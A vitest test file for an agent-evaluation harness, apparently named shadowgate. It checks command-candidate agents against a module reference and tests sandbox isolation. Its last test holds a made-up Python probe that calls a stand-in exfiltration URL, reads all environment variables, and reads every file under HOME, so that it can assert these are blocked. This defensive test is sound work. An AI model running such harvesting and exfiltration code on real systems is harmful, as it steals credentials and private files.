import { createServer, type Server } from 'node:net';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createFakeApis } from '../providers/fake-apis.js';
import { modelSuite } from '../providers/suite-helpers.js';
import { cliWithEnv, ROOT } from './helpers.js';

// Agents that are processes of their own, in two languages, run unchanged as `command`
// candidates: fixtures/refund-triage/agents/mcp-agent.ts (the official MCP client and OpenAI SDK,
// the jsonl protocol) and mcp_agent.py (Python's standard library only, the http protocol). Their
// tools are shadowgate's MCP server, answered from the traces; their model is an emulated OpenAI
// API (msw, scripted by fixtures/refund-triage/fake-model.mjs) reached through shadowgate's
// gateway and provider layer. The same loop as a module candidate (mcp-loop-module.mjs) is the
// yardstick: decisions, effects, tool calls, drift and cost must be the same.

const apis = createFakeApis();
beforeAll(() => apis.server.listen({ onUnhandledRequest: 'error' }));
afterEach(() => apis.reset());
afterAll(() => apis.server.close());

const RUN_KEY = 'sk-test-run-key-command-7f3e9a1b';
const TRACES = 14;
const agents = join(ROOT, 'fixtures/refund-triage/agents');

interface Step {
  type: string;
  name?: string;
  args?: Record<string, unknown>;
  usage?: { inputTokens: number; outputTokens: number };
}
interface Result {
  traceId: string;
  status: string;
  decision: unknown;
  effects: unknown[];
  costUsd: number | null;
  error: unknown;
  violations?: { kind: string; request?: { method: string; url: string } }[];
  steps: Step[];
}
interface RunJson {
  results: Result[];
  metrics: { toolCallDrift: unknown; cost: { totalUsd: number | null }; agreement: { rate: number | null } };
  sandbox?: unknown;
}

/** What the last run() wrote besides its JSON: its reports and `show` of the stored run. */
const reports = { md: '', html: '', junit: '', show: '' };

async function run(candidate: string, extra = '', env: Record<string, string> = {}) {
  const { dir, cleanup } = modelSuite(candidate, TRACES, extra);
  try {
    const out = await cliWithEnv(dir, { OPENAI_API_KEY: RUN_KEY, ...env }, 'run', 'suite.yaml', '--db', 'run.db', '--json', 'run.json', '--workers', '2', '--report', 'reports');
    const json = JSON.parse(readFileSync(join(dir, 'run.json'), 'utf8')) as RunJson & { runId: string };
    json.results.sort((a, b) => (a.traceId < b.traceId ? -1 : 1));
    const file = (ext: string) => readdirSync(join(dir, 'reports')).filter((f) => f.endsWith(ext)).map((f) => readFileSync(join(dir, 'reports', f), 'utf8')).join('\n');
    Object.assign(reports, { md: file('.md'), html: file('.html'), junit: file('.xml'), show: (await cliWithEnv(dir, {}, 'show', json.runId, '--db', 'run.db')).stdout });
    return { out, json };
  } finally {
    cleanup();
  }
}

const tools = (r: Result) => r.steps.filter((s) => s.type === 'tool').map((s) => [s.name, s.args]);
const usage = (r: Result) => r.steps.filter((s) => s.type === 'llm').map((s) => s.usage);

describe('command candidates: agent processes in two languages, through the gateway and MCP', () => {
  let reference: RunJson;
  beforeAll(async () => {
    const { out, json } = await run(`kind: module\nmodule: ${join(agents, 'mcp-loop-module.mjs')}`);
    expect(out.code, out.stderr).toBe(0);
    reference = json;
    expect(new Set(reference.results.map((r) => (r.decision as { action: string }).action))).toEqual(new Set(['refund', 'deny', 'escalate']));
    expect(reference.results.every((r) => r.costUsd !== null && r.costUsd > 0)).toBe(true);
    apis.reset();
  });

  it.each([
    { agent: 'TypeScript (MCP client, OpenAI SDK, jsonl)', candidate: `kind: command\ncommand: [node, --import, tsx, ${join(agents, 'mcp-agent.ts')}]\ncwd: ${ROOT}\nprotocol: jsonl` },
    { agent: 'Python (standard library, http)', candidate: `kind: command\ncommand: [python3, ${join(agents, 'mcp_agent.py')}]\nprotocol: http` },
  ])('$agent reaches the decisions, effects, tool calls, drift and cost of the same loop as a module', async ({ candidate }) => {
    const { out, json } = await run(candidate);
    expect(out.code, out.stderr).toBe(0);
    expect(json.results.map((r) => [r.traceId, r.status, r.error])).toEqual(reference.results.map((r) => [r.traceId, r.status, null]));
    expect(json.results.map((r) => r.decision)).toEqual(reference.results.map((r) => r.decision));
    expect(json.results.map((r) => r.effects)).toEqual(reference.results.map((r) => r.effects));
    expect(json.results.map(tools)).toEqual(reference.results.map(tools));
    expect(json.results.map(usage)).toEqual(reference.results.map(usage));
    expect(json.results.map((r) => r.costUsd)).toEqual(reference.results.map((r) => r.costUsd));
    expect(json.metrics.toolCallDrift).toEqual(reference.metrics.toolCallDrift);
    // the same sum, added in the order the traces finished
    expect(json.metrics.cost.totalUsd).toBeCloseTo(reference.metrics.cost.totalUsd!, 12);
    // every model request reached the emulated API with the run's key, added by the gateway
    expect(apis.seen.length).toBe(json.results.reduce((n, r) => n + usage(r).length, 0));
    expect(apis.seen.every((s) => s.headers.authorization === `Bearer ${RUN_KEY}`)).toBe(true);
  });

  it('runs without a namespace only where the suite says sandbox.network: trust-env, and says so in the summary and the results', async () => {
    const { out, json } = await run(`kind: command\ncommand: [python3, ${join(agents, 'mcp_agent.py')}]\nprotocol: http`, 'sandbox: { network: trust-env }');
    expect(out.code, out.stderr).toBe(0);
    expect(json.results.map((r) => r.decision)).toEqual(reference.results.map((r) => r.decision));
    const said = 'the suite\'s sandbox allows the candidate to run without a network namespace (sandbox.network: trust-env)';
    expect(out.stdout + out.stderr).toContain(said);
    expect(JSON.stringify(json)).toContain(said);
    // and in every report: markdown, HTML, JUnit, and `show` of the stored run
    expect(reports.md).toContain(said);
    expect(reports.html).toContain(said.replace("'", '&#x27;'));
    expect(reports.junit).toContain(said.replace("'", '&apos;'));
    expect(reports.show).toContain(`warning: ${said}`);
  });

  describe('agents that do not follow the protocol to the letter', () => {
    let folder: string;
    beforeAll(() => {
      // Not under the temporary folder: inside the namespace that is a fresh, empty one.
      folder = mkdtempSync(join(ROOT, 'test', '.probe-'));
    });
    afterAll(() => rmSync(folder, { recursive: true, force: true }));
    /** A made-up jsonl agent in Python: `before` runs once at start, each trace is answered with a denial, then `after` runs. */
    const agent = (name: string, before: string, after = '') => {
      const file = join(folder, `${name}.py`);
      writeFileSync(
        file,
        [
          'import json, sys',
          before,
          'for line in sys.stdin:',
          '    ticket = json.loads(line)',
          '    print(json.dumps({"traceId": ticket["traceId"], "decision": {"action": "deny"}}), flush=True)',
          after ? `    ${after}` : '',
          '',
        ].join('\n'),
      );
      return file;
    };

    it('takes a start-up banner on stdout for start-up output (recorded), not for the first trace\'s answer', async () => {
      const { out, json } = await run(`kind: command\ncommand: [python3, ${agent('banner', 'print("refund agent v2 starting", flush=True)')}]`);
      expect(out.code, out.stderr).toBeLessThanOrEqual(1);
      expect(json.results.map((r) => [r.status, r.error])).toEqual(json.results.map(() => ['completed', null]));
      const runLevel = (json.metrics as unknown as { safetyViolations: { runLevel?: { kind: string; message: string }[] } }).safetyViolations.runLevel ?? [];
      expect(runLevel.length).toBeGreaterThan(0);
      expect(runLevel.every((v) => v.kind === 'protocol_violation' && /^an agent process wrote stdout line 1 outside any answer: start-up output/.test(v.message))).toBe(true);
      // the process was not killed for it: it answered every trace
      expect(runLevel.some((v) => v.message.includes('killed'))).toBe(false);
    });

    it('runs every trace of an agent that answers one trace and exits, each on a fresh process', async () => {
      const { out, json } = await run(`kind: command\ncommand: [python3, ${agent('oneshot', '', 'sys.exit(0)')}]`);
      expect(out.code, out.stderr).toBeLessThanOrEqual(1);
      expect(json.results.map((r) => [r.traceId, r.status, r.error])).toEqual(json.results.map((r) => [r.traceId, 'completed', null]));
    });

    it('refuses to run a command that exits at once: a configuration error before any trace (exit 2)', async () => {
      // A program that ends at once, whatever the machine's load: the pool watches a new jsonl process for a second.
      const { dir, cleanup } = modelSuite(`kind: command\ncommand: [sh, -c, "echo no such model >&2; exit 2"]`, TRACES);
      try {
        const out = await cliWithEnv(dir, { OPENAI_API_KEY: RUN_KEY }, 'run', 'suite.yaml', '--db', 'run.db', '--json', 'run.json');
        expect(out.code).toBe(2);
        expect(out.stderr).toMatch(/exit code 2\) before it was given a trace; its last output: no such model/);
        expect(existsSync(join(dir, 'run.json'))).toBe(false);
      } finally {
        cleanup();
      }
    });
  });

  describe('what an agent process can reach', () => {
    let server: Server;
    let port: number;
    let connections = 0;
    beforeAll(async () => {
      server = createServer((socket) => {
        connections++;
        socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nhi');
      });
      await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
      port = (server.address() as { port: number }).port;
    });
    afterAll(() => new Promise<void>((done) => server.close(() => done())));

    it('reaches nothing but the gateway: a request to another address fails and is recorded, a raw socket to the host fails, no write outside its folder, the run key in no variable or file of the agent', async () => {
      // Not under the temporary folder: inside the namespace that is a fresh, empty one.
      const folder = mkdtempSync(join(ROOT, 'test', '.probe-'));
      try {
        const probe = join(folder, 'probe.py');
        // Made up for this test: an agent that tries to get out, then reports what it saw.
        writeFileSync(
          probe,
          [
            'import json, os, socket, sys, urllib.request',
            'for line in sys.stdin:',
            '    ticket = json.loads(line)',
            '    seen = {}',
            '    try:',
            '        urllib.request.urlopen("http://192.0.2.10/exfiltrate", timeout=5).read()',
            '        seen["http"] = "reached"',
            '    except Exception as error:',
            '        seen["http"] = type(error).__name__',
            '    try:',
            `        socket.create_connection(("127.0.0.1", ${port}), timeout=5).close()`,
            '        seen["socket"] = "reached"',
            '    except Exception as error:',
            '        seen["socket"] = type(error).__name__',
            '    try:',
            `        open(${JSON.stringify(join(folder, 'written-by-agent'))}, "w").write("x")`,
            '        seen["write"] = "written"',
            '    except Exception as error:',
            '        seen["write"] = type(error).__name__',
            '    seen["env"] = dict(os.environ)',
            '    home = os.environ.get("HOME", "")',
            '    seen["files"] = "".join(open(os.path.join(root, f), errors="replace").read() for root, _, files in os.walk(home) for f in files) if home else ""',
            '    print(json.dumps({"traceId": ticket["traceId"], "decision": seen}), flush=True)',
            '',
          ].join('\n'),
        );
        const { out, json } = await run(`kind: command\ncommand: [python3, ${probe}]`);
        expect(out.code, out.stderr).toBeLessThanOrEqual(1);
        const first = json.results[0]!;
        const seen = first.decision as { http: string; socket: string; write: string; env: Record<string, string>; files: string };
        expect(seen.http).not.toBe('reached');
        expect(seen.socket).not.toBe('reached');
        // Elsewhere the file system is read-only to the agent; under /tmp (a checkout there) it writes into a
        // private /tmp of its own that no one else sees, as the next line checks.
        expect(seen.write).toBe(folder.startsWith('/tmp/') ? 'written' : 'OSError');
        expect(existsSync(join(folder, 'written-by-agent'))).toBe(false);
        expect(connections).toBe(0);
        // the request to another address went to the gateway (the proxy variables), which refused and recorded it
        expect(first.violations).toContainEqual(expect.objectContaining({ kind: 'blocked_request', request: expect.objectContaining({ url: expect.stringContaining('192.0.2.10') }) }));
        // the key the run holds is in no variable and no file the agent could read; its SDK variables hold a dummy
        expect(JSON.stringify(seen)).not.toContain(RUN_KEY);
        expect(seen.env.OPENAI_API_KEY).toBeDefined();
        expect(seen.env.OPENAI_BASE_URL).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/openai\/v1$/);
      } finally {
        rmSync(folder, { recursive: true, force: true });
      }
    });
  });
});
